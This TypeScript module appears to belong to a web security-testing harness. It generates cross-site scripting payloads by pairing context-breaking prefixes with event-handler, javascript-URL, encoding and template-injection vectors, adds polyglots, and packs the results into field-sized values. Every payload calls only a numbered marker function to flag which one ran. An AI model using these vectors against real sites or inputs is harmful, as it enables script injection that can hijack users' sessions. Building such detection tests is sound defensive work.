/**
 * Script-injection payloads, built systematically: each vector (a tag, attribute, event, URL scheme
 * or encoding trick) after each context breaker (what closes the attribute, element or comment a
 * field may land in), plus hand-written polyglots. Every payload, if it ever ran, would call
 * `__xss(n)` with its own number n, so an execution names the payload that caused it.
 */

/** What closes the context a value may be written into. */
const BREAKERS = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '--!>',
  '</style>',
  '</noscript>',
  '"><!--',
  '`;',
];

/** `$` stands for the marker call, `#` for the payload's number. */
const VECTORS = [
  '<script>$</script>',
  '<img src=x onerror=$>',
  '<img src="x" onerror="$">',
  '<IMG SRC=x OnErRoR=$>',
  '<img src=x onerror=&#95;&#95;xss(#)>',
  '<img src=x onerror="\\u005f_xss(#)">',
  '<svg onload=$>',
  '<svg/onload=$>',
  '<svg><script>$</script></svg>',
  '<svg><animate onbegin=$ attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:$"><text>x#</text></a></svg>',
  '<body onload=$>',
  '<iframe src="javascript:$"></iframe>',
  '<iframe srcdoc="<script>parent.$</script>"></iframe>',
  '<a href="javascript:$">x#</a>',
  '<a href="jav&#x09;ascript:$">x#</a>',
  '<details open ontoggle=$>',
  '<input autofocus onfocus=$>',
  '<select autofocus onfocus=$></select>',
  '<textarea autofocus onfocus=$></textarea>',
  '<video><source onerror=$></video>',
  '<audio src=x onerror=$>',
  '<object data="javascript:$"></object>',
  '<embed src="javascript:$">',
  '<math><mtext><table><mglyph><style><img src=x onerror=$>',
  '<form><button formaction="javascript:$">x#</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:$">',
  '<marquee onstart=$>x#</marquee>',
  '<style onload=$></style>',
  '<link rel=stylesheet href=x onerror=$>',
  '<div style="background:url(javascript:$)">x#</div>',
  '<noscript><p title="</noscript><img src=x onerror=$>">',
  '<scr<script>ipt>$</scr</script>ipt>',
  '<!--<img src="--><img src=x onerror=$//">',
  '<![CDATA[<img src=x onerror=$>]]>',
  '<base href="javascript:$//">',
  '<x onclick=$>click #</x>',
  '<img src=x:alert(#) onerror=eval(src.slice(0,0)+"$")>',
  'javascript:$',
  'JaVaScRiPt:$',
  ' javascript:$',
  '&#106;avascript:$',
  'data:text/html,<script>$</script>',
  '{{constructor.constructor("$")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, on purpose
  '${$}',
  "';$;//",
  '";$;//',
  '\\";$;//',
  '</script><script>$</script>',
  '%3Cscript%3E$%3C/script%3E',
];

/** Polyglots of our own: one string meant to break out of many contexts at once. */
const POLYGLOTS = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */$)//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=$//>\\x3e',
  '"\'--></style></script><svg onload=$>',
  '\';$;//\';$;//";$;//";$;//--></SCRIPT>">\'><SCRIPT>$</SCRIPT>',
  '</textarea></title></noscript></style></script><img src=x onerror=$>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, on purpose
  '"><img src=x onerror=$>{{$}}${$}<!--',
  '\'"`><\\x3cscript>$</script><svg/onload=$>',
  '<<script>$//<</script>',
  '"onmouseover=$ autofocus onfocus=$ x="',
  "'onmouseover=$ autofocus onfocus=$ x='",
  '\u2028\u2029</script><script>$</script>',
];

export interface Payload {
  n: number;
  text: string;
}

export function xssPayloads(): Payload[] {
  const texts: string[] = [];
  for (const breaker of BREAKERS) for (const vector of VECTORS) texts.push(breaker + vector);
  texts.push(...POLYGLOTS);
  return texts.map((template, n) => ({
    n,
    text: template.replaceAll('$', `__xss(${n})`).replaceAll('#', String(n)),
  }));
}

/**
 * Packs payloads into values of at most `max` characters (space-separated), so a field that holds
 * one value per page view still carries every payload over a few views.
 */
export function pack(payloads: readonly Payload[], max: number): string[] {
  const values: string[] = [];
  let current = '';
  for (const { text } of payloads) {
    if (text.length > max) continue;
    const next = current ? `${current} ${text}` : text;
    if (next.length > max) {
      values.push(current);
      current = text;
    } else current = next;
  }
  if (current) values.push(current);
  return values;
}
